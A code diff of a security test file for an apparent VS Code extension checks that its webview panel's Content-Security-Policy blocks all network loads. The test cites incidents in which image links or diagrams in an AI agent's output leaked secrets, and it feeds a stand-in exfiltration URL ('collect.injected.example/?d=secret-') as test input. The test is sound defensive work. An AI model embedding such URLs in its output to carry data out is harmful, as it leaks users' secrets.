@@ -1,6 +1,7 @@
 import { strict as assert } from 'node:assert';
 import fs from 'node:fs';
 import path from 'node:path';
+import { panelPolicy } from '../../../src/extension/panelPolicy';
 import { FromPanel } from '../../../src/protocol/panel';
 import { visible } from '../../../webview-ui/visible';
 import { action, log, page, reply, task } from '../../webview/support/events';
@@ -48,9 +49,10 @@ section('4.5 Rendering and network', 'rendering.ts', incident => {
   incident({ row: 47, id: 'Cline, Windsurf, OpenHands, Amp, Kiro (Embrace the Red), CamoLeak', happened: 'The address of an image in the agent’s words carried secrets out.', protects: 'Images are shown as text, HTML is text, and the policy of the panel lets it ask nobody.' }, {
     'asks the network nothing for any markup that loads something': () => showsHarmlessly(loaders('https://collect.injected.example/?d=secret-')),
     'has that policy in the product': () => {
-      const shell = source('src/extension/webviewShell.ts');
-      assert.match(shell, /default-src 'none'; script-src 'nonce-\$\{nonce\}'; style-src \$\{source\}; font-src \$\{source\}; img-src \$\{source\} data:; connect-src 'none'; form-action 'none'; base-uri 'none'/);
-      assert.doesNotMatch(shell, /unsafe-inline|unsafe-eval|https:/);
+      assert.match(source('src/extension/webviewShell.ts'), /Content-Security-Policy" content="\$\{panelPolicy\(source, nonce\)\}"/);
+      const policy = panelPolicy('vscode-webview:', 'abc');
+      for (const part of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'", "script-src 'nonce-abc'", 'img-src vscode-webview: data:']) assert.ok(policy.split('; ').includes(part), part);
+      assert.doesNotMatch(policy, /unsafe-|https?:|\*/);
     },
   });
   incident({ row: 48, id: 'CVE-2025-54132, CVE-2025-61589 Cursor', happened: 'Diagrams in the agent’s words loaded images.', protects: 'Diagrams in a fence are shown as the text that they are; Waymark draws only plans, from its own data.' }, {
